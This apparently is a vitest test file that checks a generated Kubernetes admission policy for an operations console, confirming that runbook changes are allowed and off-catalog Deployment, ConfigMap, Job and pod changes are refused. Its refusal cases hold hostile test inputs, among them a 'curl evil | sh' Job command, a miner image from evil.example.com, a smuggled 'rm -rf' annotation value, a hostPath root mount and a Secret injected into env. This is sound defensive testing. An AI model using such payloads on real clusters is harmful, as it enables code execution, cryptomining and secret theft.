// deploy/kubernetes/admission-policy.yaml, evaluated (test/support/validating-admission.ts, CEL by
// @marcbachmann/cel-js; no API server can run here) on the changes the console really makes: every
// catalog step's preview is run against the API double and each dry-run object it gets back, with the
// object as it was, is the admission request. Each must be allowed; the same objects, changed in ways
// no runbook changes them, must be refused with the policy's reason.
import fs from 'node:fs';
import path from 'node:path';
import { parseAllDocuments } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createKubernetesExecutor } from '@/lib/actions/kubernetes-executor';
import type { ResolvedAction } from '@/lib/actions/resolve';
import type { Section } from '@/lib/catalog/schema';
import { renderAdmissionPolicies } from '@/lib/kubernetes/admission-policy';
import { CONSOLE_USERNAME } from '@/lib/kubernetes/rbac-manifest';
import { expandTargetNames } from '@/lib/kubernetes/rbac-needs';
import type { KubernetesClient } from '@/lib/server/kubernetes/client';
import type { Simulator } from '@/sim/server';
import { admit, type AdmissionRequest } from '../support/validating-admission';

const FILE = path.resolve(__dirname, '../../deploy/kubernetes/admission-policy.yaml');
const docs = parseAllDocuments(fs.readFileSync(FILE, 'utf8')).map((d) => d.toJS() as Record<string, unknown>);

let sim: Simulator;
let sections: readonly Section[];
let admin: KubernetesClient;
let console_: KubernetesClient;
let resolve: (section: string, step: string, params?: Record<string, unknown>) => ResolvedAction;
type Captured = AdmissionRequest & { where: string };
const captured: Captured[] = [];
let where = '';

const user = { username: CONSOLE_USERNAME, groups: ['system:serviceaccounts', 'system:authenticated'] };
const json = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;
const findParam = (namespace: string, name: string) => sim.kube!.store.get('cronjobs', namespace, name) ?? undefined;
const decide = (r: AdmissionRequest) => admit(docs as never, r, (ns, name) => { const cj = findParam(ns, name); return cj ? json({ ...cj, kind: 'CronJob', apiVersion: 'batch/v1' }) : undefined; });

/** The console's client, recording each dry-run change with the object before it (read as an admin). */
function recording(real: KubernetesClient): KubernetesClient {
  const record = (r: Omit<AdmissionRequest, 'userInfo'>) => captured.push({ ...json(r), userInfo: user, where });
  return new Proxy(real, {
    get(target, key: keyof KubernetesClient) {
      const fn = target[key];
      if (typeof fn !== 'function') return fn;
      return async (...args: unknown[]) => {
        const [namespace, name] = args as [string, string];
        if (key === 'patchDeploymentStrategic' && (args[3] as { dryRun?: boolean } | undefined)?.dryRun) {
          const oldObject = await admin.readDeployment(namespace, name);
          const object = await target.patchDeploymentStrategic(namespace, name, args[2] as object, { dryRun: true });
          record({ operation: 'UPDATE', resource: { group: 'apps', version: 'v1', resource: 'deployments' }, namespace, name, object, oldObject });
          return object;
        }
        if (key === 'patchDeploymentJson' && (args[3] as { dryRun?: boolean } | undefined)?.dryRun) {
          // A rollout undo sends a JSON patch of the template, as kubectl does.
          const oldObject = await admin.readDeployment(namespace, name);
          const object = await target.patchDeploymentJson(namespace, name, args[2] as never, { dryRun: true, resourceVersion: (args[3] as { resourceVersion?: string }).resourceVersion });
          record({ operation: 'UPDATE', resource: { group: 'apps', version: 'v1', resource: 'deployments' }, namespace, name, object, oldObject });
          return object;
        }
        if (key === 'patchScale' && (args[3] as { dryRun?: boolean } | undefined)?.dryRun) {
          const oldObject = await admin.readScale(namespace, name);
          const object = await target.patchScale(namespace, name, args[2] as number, { dryRun: true });
          record({ operation: 'UPDATE', resource: { group: 'apps', version: 'v1', resource: 'deployments' }, subResource: 'scale', namespace, name, object, oldObject });
          return object;
        }
        if (key === 'patchConfigMapMerge' && (args[3] as { dryRun?: boolean }).dryRun) {
          const oldObject = await admin.readConfigMap(namespace, name);
          const object = await target.patchConfigMapMerge(namespace, name, args[2] as Record<string, string>, args[3] as { dryRun: true; resourceVersion: string });
          record({ operation: 'UPDATE', resource: { group: '', version: 'v1', resource: 'configmaps' }, namespace, name, object, oldObject });
          return object;
        }
        if (key === 'createJobFromCronJob' && (args[3] as { dryRun?: boolean } | undefined)?.dryRun) {
          const object = await target.createJobFromCronJob(namespace, name, args[2] as string, { dryRun: true });
          record({ operation: 'CREATE', resource: { group: 'batch', version: 'v1', resource: 'jobs' }, namespace, name: object.metadata?.name ?? '', object, oldObject: null });
          return object;
        }
        if (key === 'evictPod' && (args[2] as { dryRun?: boolean } | undefined)?.dryRun) {
          record({ operation: 'CREATE', resource: { group: '', version: 'v1', resource: 'pods' }, subResource: 'eviction', namespace, name, object: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name, namespace } }, oldObject: null });
        }
        return (fn as (...a: unknown[]) => unknown).apply(target, args);
      };
    },
  });
}

beforeAll(async () => {
  const { startSimulator } = await import('@/sim/server');
  sim = await startSimulator({ port: 0 });
  Object.assign(process.env, { KUBE_API_URL: sim.url, KUBE_TOKEN: 'voicehive-sim-token', UPSTREAM_CACHE_TTL_MS: '1', PROMETHEUS_URL: 'http://127.0.0.1:1' });
  const { parseEnv } = await import('@/lib/env');
  const { createKubernetesClient } = await import('@/lib/server/kubernetes/client');
  const { resolveKubernetesSettings } = await import('@/lib/server/kubernetes/settings');
  const clientWith = (token: string) => createKubernetesClient(resolveKubernetesSettings(parseEnv({ ...process.env, KUBE_TOKEN: token }), () => false), { cacheTtlMs: 0 });
  admin = clientWith('voicehive-sim-kube-admin-token');
  console_ = recording(clientWith('voicehive-sim-token'));
  const { getCatalog } = await import('@/lib/server/catalog');
  const { resolveAction } = await import('@/lib/actions/resolve');
  sections = getCatalog().sections;
  resolve = (section, step, params = {}) => resolveAction(getCatalog().byId, section, step, params);
  const executor = createKubernetesExecutor(() => console_);
  for (const section of sections) {
    for (const step of section.resolution) {
      const action = step.action;
      if (!action || action.kind.startsWith('redis-') || action.kind === 'http-post') continue;
      const targetParam = /^\{(\w+)\}$/.exec(action.target.name ?? '')?.[1];
      const base: Record<string, unknown> = Object.fromEntries(Object.entries(action.params).filter(([, s]) => s.type === 'ip-list').map(([n]) => [n, ['203.0.113.7']]));
      for (const params of targetParam ? expandTargetNames(action).map((v) => ({ ...base, [targetParam]: v })) : [base]) {
        where = `${section.id}/${step.id} ${JSON.stringify(params)}`;
        await executor.preview(resolve(section.id, step.id, params), { requester: 'admission-policy-test' });
      }
    }
  }
});

afterAll(async () => {
  await sim?.close();
});

const find = (predicate: (c: Captured) => boolean, what: string): Captured => {
  const hit = captured.find(predicate);
  if (!hit) throw new Error(`no captured change: ${what}`);
  return json(hit);
};
type Dep = { metadata: { labels?: Record<string, string>; annotations?: Record<string, string> }; spec: { replicas: number; template: { metadata: { labels: Record<string, string>; annotations?: Record<string, string> }; spec: Record<string, unknown> & { containers: { name: string; image: string; env?: object[] }[]; volumes?: object[] } } } };
const restartOf = (key: string) => find((c) => c.resource.resource === 'deployments' && !c.subResource && `${c.namespace}/${c.name}` === key && c.where.includes('restart'), `restart of ${key}`);
const refused = (r: AdmissionRequest, reason: RegExp) => {
  const decision = decide(r);
  expect(decision.allowed, JSON.stringify(decision)).toBe(false);
  expect(decision.denials.join('\n')).toMatch(reason);
};

describe('deploy/kubernetes/admission-policy.yaml', () => {
  it('is the policy generated from the catalog (run `npm run rbac` after editing the catalog)', async () => {
    expect(fs.readFileSync(FILE, 'utf8')).toBe(renderAdmissionPolicies(sections));
    expect(docs.map((d) => `${d.kind}`)).toEqual(['ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding', 'ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding']);
  });

  it('allows every change the catalog makes, as the console sends it to the API double', () => {
    const kinds = new Set(captured.map((c) => `${c.resource.resource}${c.subResource ? `/${c.subResource}` : ''}:${c.operation}`));
    expect([...kinds].sort()).toEqual(['configmaps:UPDATE', 'deployments/scale:UPDATE', 'deployments:UPDATE', 'jobs:CREATE', 'pods/eviction:CREATE']);
    const denied = captured.map((c) => ({ where: c.where, decision: decide(c) })).filter((d) => !d.decision.allowed);
    expect(denied).toEqual([]);
    // The undo previews really change the template (else they would prove nothing).
    expect(captured.filter((c) => c.where.includes('emergency-rollback')).some((c) => JSON.stringify((c.object as Dep).spec.template) !== JSON.stringify((c.oldObject as Dep).spec.template))).toBe(true);
  });

  it('refuses a Deployment change outside the catalog: another image, a new container or volume, host network, a Secret in env, labels, replicas', () => {
    const base = restartOf('voicehive/orchestrator');
    const change = (edit: (d: Dep) => void) => {
      const r = json(base);
      edit(r.object as Dep);
      return r;
    };
    refused(change((d) => (d.spec.template.spec.containers[0]!.image = 'evil.example.com/miner:1')), /its image changes only by a rollout undo, within the same repository/);
    refused(change((d) => d.spec.template.spec.containers.push({ name: 'sidecar', image: 'busybox' })), /no container is added/);
    refused(change((d) => (d.spec.template.spec.volumes = [...(d.spec.template.spec.volumes ?? []), { name: 'root', hostPath: { path: '/' } }])), /may only be removed/);
    refused(change((d) => (d.spec.template.spec.hostNetwork = true)), /host access/);
    refused(change((d) => (d.spec.template.spec.serviceAccountName = 'admin')), /service account/);
    refused(change((d) => d.spec.template.spec.containers[0]!.env?.push({ name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } })), /never to a reference to a Secret/);
    refused(change((d) => (d.spec.template.metadata.labels.app = 'other')), /labels and annotations stay as they are/);
    refused(change((d) => (d.spec.template.metadata.annotations = { ...d.spec.template.metadata.annotations, 'kubectl.kubernetes.io/restartedAt': 'now; rm -rf' })), /restartedAt \(a timestamp\)/);
    refused(change((d) => (d.metadata.labels = { ...d.metadata.labels, team: 'x' })), /keeps its replicas/);
    refused(change((d) => (d.spec.replicas = 50)), /scale goes through \/scale/);
    // Not undoable: coredns may only be restarted, so a plain variable and a new tag are refused too.
    const coredns = restartOf('kube-system/coredns');
    const edited = json(coredns);
    (edited.object as Dep).spec.template.spec.containers[0]!.env = [{ name: 'DEBUG', value: '1' }];
    refused(edited, /environment variables change only to the runbooks' named values/);
    const tagged = json(coredns);
    (tagged.object as Dep).spec.template.spec.containers[0]!.image += '-other';
    refused(tagged, /its image changes only by a rollout undo/);
    refused({ ...json(coredns), name: 'kube-proxy' }, /only the Deployments the runbooks name/);
  });

  it('refuses scaling outside the catalog: another deployment, beyond the bounds', () => {
    const scale = find((c) => c.subResource === 'scale' && c.name === 'orchestrator', 'scale of orchestrator');
    refused({ ...scale, name: 'connectors' }, /scales only the Deployments a scale step names/);
    refused({ ...scale, object: { ...(scale.object as object), spec: { replicas: 11 } } }, /within that step's bounds/);
    refused({ ...scale, object: { ...(scale.object as object), spec: {} } }, /within that step's bounds/);
  });

  it('refuses a ConfigMap change outside the catalog: another key, another value, another ConfigMap, its labels', () => {
    const cm = find((c) => c.name === 'rate-limit-config', 'rate-limit-config');
    const withData = (data: Record<string, string>) => ({ ...cm, object: { ...(cm.object as object), data: { ...(cm.object as { data: object }).data, ...data } } });
    refused(withData({ admin_bypass: 'true' }), /only in the keys the runbooks name/);
    refused(withData({ requests_per_minute: '999999' }), /to the runbooks' values/);
    refused(withData({ requests_per_minute: '60; drop' }), /to the runbooks' values/);
    // The temporary raise set back to what it found: a whole number no higher than the step's 120 (issue 14 point 12).
    expect(decide(withData({ requests_per_minute: '60' })).allowed).toBe(true);
    refused({ ...cm, namespace: 'kube-system', name: 'coredns' }, /only in the keys the runbooks name/);
    refused({ ...cm, object: { ...(cm.object as { metadata: object }), metadata: { ...(cm.object as { metadata: object }).metadata, labels: { x: 'y' } } } }, /only in the keys/);
  });

  it("refuses a Job that is not the named CronJob's template", () => {
    const job = find((c) => c.resource.resource === 'jobs', 'the job');
    const edit = (fn: (j: { metadata: { ownerReferences?: { name: string }[]; annotations?: Record<string, string> }; spec: { template: { spec: { containers: { image: string; command?: string[] }[] } } } }) => void) => {
      const r = json(job);
      fn(r.object as never);
      return r;
    };
    refused(edit((j) => (j.spec.template.spec.containers[0]!.command = ['sh', '-c', 'curl evil | sh'])), /that CronJob's template/);
    refused(edit((j) => delete j.metadata.ownerReferences), /only from a CronJob the runbooks name/);
    refused(edit((j) => (j.metadata.annotations = {})), /cronjob.kubernetes.io\/instantiate: manual/);
    refused(edit((j) => (j.metadata.ownerReferences![0]!.name = 'backup')), /only from a CronJob the runbooks name/);
  });

  it('refuses evicting (or deleting) pods the catalog does not name or select', () => {
    const postgres = find((c) => c.subResource === 'eviction' && c.name === 'postgresql-0', 'eviction of postgresql-0');
    const orchestrator = find((c) => c.subResource === 'eviction' && c.name.startsWith('orchestrator-'), 'eviction of an orchestrator pod');
    expect(decide(postgres).allowed).toBe(true);
    expect(decide(orchestrator).allowed).toBe(true);
    refused({ ...postgres, name: 'redis-0' }, /evicts only the pods the runbooks name or select/);
    // The console evicts rather than deletes (its RBAC grants no pod delete); the policy still guards a
    // plain delete the same way, in case a role is widened by hand.
    const remove = (name: string, labels: Record<string, string>): AdmissionRequest => ({ ...orchestrator, operation: 'DELETE', subResource: undefined, name, object: null, oldObject: { metadata: { name, labels } } });
    refused(remove('redis-0', { app: 'redis' }), /deletes only the pods the runbooks name or select/);
    expect(decide(remove('postgresql-0', { app: 'postgresql' })).allowed).toBe(true);
    expect(decide(remove('orchestrator-abc12-x7k2p', { app: 'orchestrator' })).allowed).toBe(true);
  });

  it('refuses any other kind of change by the console, and leaves other users alone', () => {
    const secret: AdmissionRequest = { operation: 'CREATE', resource: { group: '', version: 'v1', resource: 'secrets' }, namespace: 'voicehive', name: 'x', userInfo: user, object: { metadata: { name: 'x' } }, oldObject: null };
    refused(secret, /only the kinds of change its runbooks make/);
    refused({ ...secret, operation: 'CONNECT', resource: { group: '', version: 'v1', resource: 'pods' }, subResource: 'exec' }, /only the kinds of change/);
    expect(decide({ ...secret, userInfo: { username: 'kubernetes-admin', groups: ['system:masters'] } }).allowed).toBe(true);
  });
});
